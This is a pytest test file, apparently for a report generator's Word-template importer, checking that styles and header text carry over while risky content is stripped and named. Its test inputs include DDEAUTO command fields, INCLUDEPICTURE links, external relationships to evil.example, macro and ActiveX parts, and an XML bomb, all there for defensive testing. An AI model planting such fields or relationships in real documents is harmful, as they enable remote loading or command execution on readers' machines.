"""What of a Word template comes into a report, and what stays behind and is named."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from womenplan.errors import UsageError
from womenplan.report.template_file import look_of, shipped
from womenplan.report.word_style import styles_of

Parts = dict[str, bytes]
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def run(words: str) -> str:
    return f"<w:r><w:t>{words}</w:t></w:r>"


def field(code: str, shown: str) -> str:
    begin, middle, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    return f"{begin}<w:r><w:instrText> {code} </w:instrText></w:r>{middle}{run(shown)}{end}"


def template(path: Path, header: str = "", change: Callable[[Parts], Parts] = dict) -> Path:
    """Write a template with a header, and its parts changed as asked."""
    document, stream = Document(), io.BytesIO()
    document.add_paragraph("SECRET BODY")
    document.styles["Heading 1"].font.name = "Courier New"
    if header:
        edge = document.sections[0].header
        edge.is_linked_to_previous = False
        edge._element[:] = [parse_xml(f"<w:p {nsdecls('w', 'r')}>{header}</w:p>")]
    document.core_properties.author = document.core_properties.comments = ""
    document.core_properties.title = ""
    document.save(stream)
    with zipfile.ZipFile(stream) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, blob in change(parts).items():
            package.writestr(name, blob)
    return path


def taken(path: Path) -> tuple[str, str, str]:
    """Return the words of the header, all XML of a document with the template's look, and what is said."""
    look, document, stream = look_of(path), Document(), io.BytesIO()
    look.put_on(document)
    document.save(stream)
    with zipfile.ZipFile(stream) as package:
        xml = " ".join(
            package.read(name).decode()
            for name in package.namelist()
            if name.endswith((".xml", ".rels"))
        )
        names = " ".join(package.namelist())
    words = "\n".join(paragraph.text for paragraph in document.sections[0].header.paragraphs)
    return words, f"{names} {xml}", str(look.left_out or "")


def test_styles_page_and_words_come_over_and_the_text_stays_behind(tmp_path):
    path = template(tmp_path / "t.docx", run("Office of the county"))
    words, xml, said = taken(path)
    assert words == "Office of the county"
    assert "Courier New" in xml
    assert "SECRET" not in xml
    assert said == ""


@pytest.mark.parametrize(
    "code",
    [
        "DDEAUTO c:\\\\x cmd",
        "DDE x",
        "INCLUDETEXT c:\\\\x",
        "INCLUDEPICTURE http://x",
        "LINK x",
        "AUTHOR",
    ],
)
def test_fields_leave_the_words_that_they_show_and_are_named(tmp_path, code):
    for number, header in enumerate(
        (field(code, "shown"), f'<w:fldSimple w:instr="{code}">{run("shown")}</w:fldSimple>')
    ):
        words, xml, said = taken(
            template(tmp_path / f"{number}.docx", run("a ") + header + run(" b"))
        )
        assert words.split() == ["a", "shown", "b"]
        assert code not in xml
        assert f"域（{code.split()[0]}）未带入报告" in said


def test_page_numbers_stay(tmp_path):
    header = (
        run("第")
        + field("PAGE", "7")
        + run("页")
        + f'<w:fldSimple w:instr="NUMPAGES">{run("9")}</w:fldSimple>'
    )
    words, xml, said = taken(template(tmp_path / "t.docx", header))
    assert re.findall('w:instr="([^"]*)"', xml) == [" PAGE ", " NUMPAGES "]
    assert "7" not in words
    assert said == ""


def external(part: str, kind: str) -> Callable[[Parts], Parts]:
    def change(parts: Parts) -> Parts:
        bare = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        relation = f'<Relationship Id="rX" Type="{RELATION}/{kind}" Target="http://evil.example/" TargetMode="External"/>'
        old = parts.get(part, bare)
        return parts | {
            part: old.replace(b"</Relationships>", relation.encode() + b"</Relationships>")
        }

    return change


def adding(name: str) -> Callable[[Parts], Parts]:
    return lambda parts: parts | {name: b"<x/>" if name.endswith(".xml") else b"EVIL"}


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (external("word/_rels/settings.xml.rels", "attachedTemplate"), "外部链接"),
        (external("word/_rels/document.xml.rels", "image"), "外部链接"),
        (external("word/_rels/document.xml.rels", "oleObject"), "外部链接"),
        (adding("word/vbaProject.bin"), "宏"),
        (adding("word/embeddings/oleObject1.bin"), "嵌入对象和控件"),
        (adding("word/activeX/activeX1.bin"), "嵌入对象和控件"),
        (adding("word/media/image1.png"), "图片"),
        (adding("word/comments.xml"), "批注"),
        (adding("docProps/custom.xml"), "文档属性"),
    ],
)
def test_what_loads_or_runs_stays_behind_and_is_named(tmp_path, change, told):
    _, xml, said = taken(template(tmp_path / "t.docx", run("a"), change))
    assert not re.search(
        "evil|vba|oleObject|activeX|image1|comments|custom.xml", xml, re.IGNORECASE
    )
    assert told in said


@pytest.mark.parametrize(
    "part", ["word/document.xml", "word/styles.xml", "[Content_Types].xml", "_rels/.rels"]
)
@pytest.mark.parametrize("blob", [None, b"", b"<x", b"<x/>", b"\0\1\2"])
def test_damaged_template_is_a_sentence_or_not_needed(tmp_path, part, blob):
    def change(parts: Parts) -> Parts:
        return {name: old for name, old in parts.items() if name != part} | (
            {} if blob is None else {part: blob}
        )

    path = template(tmp_path / "t.docx", run("a"), change)
    if part == "[Content_Types].xml":
        assert taken(path)[0] == "a"  # it is not needed
        return
    with pytest.raises(UsageError, match=rf"t\.docx”不是可用的 \.docx 模板（{part}）。"):
        look_of(path)


def test_entities_and_bombs_in_a_template_are_refused(tmp_path):
    def entities(parts: Parts) -> Parts:
        declared = b'<!DOCTYPE x [<!ENTITY a "aaaa">]>'
        return parts | {
            "word/styles.xml": parts["word/styles.xml"].replace(b"?>", b"?>" + declared, 1)
        }

    def bomb(parts: Parts) -> Parts:
        return parts | {"customXml/item1.xml": b"<a>" + b" " * 300_000_000 + b"</a>"}

    for change in (entities, bomb):
        with pytest.raises(UsageError, match=r"t\.docx”不是可用的 \.docx 模板。"):
            look_of(template(tmp_path / "t.docx", "", change))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('w:type="paragraph"', ""),
        ('w:type="paragraph" w:styleId="BodyText"', 'w:type="character" w:styleId="BodyText"'),
        ('<w:name w:val="Body Text"/>', '<w:name w:val="x"/><w:basedOn w:val="BodyText"/>'),
        ('w:styleId="BodyText"', 'w:styleId="Heading1"'),
    ],
)
def test_report_finds_its_styles_whatever_a_template_says_of_them(tmp_path, old, new):
    def change(parts: Parts) -> Parts:
        said = parts["word/styles.xml"].decode()
        assert old in said
        return parts | {"word/styles.xml": said.replace(old, new).encode()}

    document = Document()
    look = look_of(template(tmp_path / "t.docx", "", change)).completed(shipped("zh"))
    look.put_on(document)
    assert {"title", "body text", "heading 1", "table text", "toc 1"} <= styles_of(document).keys()
